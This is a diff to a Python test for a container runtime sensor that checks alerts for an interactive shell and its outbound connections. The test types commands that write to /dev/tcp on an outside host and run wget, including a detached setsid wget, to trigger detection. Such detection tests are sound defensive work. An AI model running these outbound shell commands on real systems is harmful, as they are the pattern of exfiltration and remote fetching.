@@ -143,21 +143,27 @@ def test_what_an_intruder_does_gives_an_alert(
 def test_a_shell_with_a_terminal_and_where_it_connects(
     shikra: Sensor, container: Container
 ) -> None:
-    """The shell is a warning; its own connection, and one of what it started, are critical."""
+    """The shell is a warning; its own connection and those of what it started are critical."""
     with container.terminal("bash", "-i") as terminal:
         terminal.type("echo re''ady")
         terminal.read_until(b"ready")
-        shell = shikra.expect(container.id, "Runtime interactive shell", {"proc.name": "bash"})
+        shell = shikra.expect(
+            container.id, "Runtime interactive shell", {"proc.cmdline": "bash -i"}
+        )
         terminal.type(f"echo x > /dev/tcp/{OUTSIDE}/81; wget http://{OUTSIDE}:82; echo en''ded")
         terminal.read_until(b"ended")
         rule = "Runtime suspicious outbound shell"
         itself = shikra.expect(container.id, rule, {"fd.rport": 81})
         child = shikra.expect(container.id, rule, {"fd.rport": 82})
+        terminal.type(f"setsid wget http://{OUTSIDE}:83; echo do''ne")
+        terminal.read_until(b"done")
+        freed = shikra.expect(container.id, rule, {"fd.rport": 83})
     assert shell["priority"] == "Warning"
     assert shell["output_fields"]["proc.entered"] is True
     assert itself["priority"] == child["priority"] == "Critical"
-    assert itself["output_fields"]["proc.name"] == "bash"
-    assert child["output_fields"]["proc.name"] == "wget"
+    assert itself["output_fields"]["proc.cmdline"] == "bash -i"
+    assert child["output_fields"]["proc.cmdline"] == f"wget http://{OUTSIDE}:82"
+    assert freed["output_fields"]["proc.tty"] == 0
     assert child["lineage"][0] == "bash"
 
 
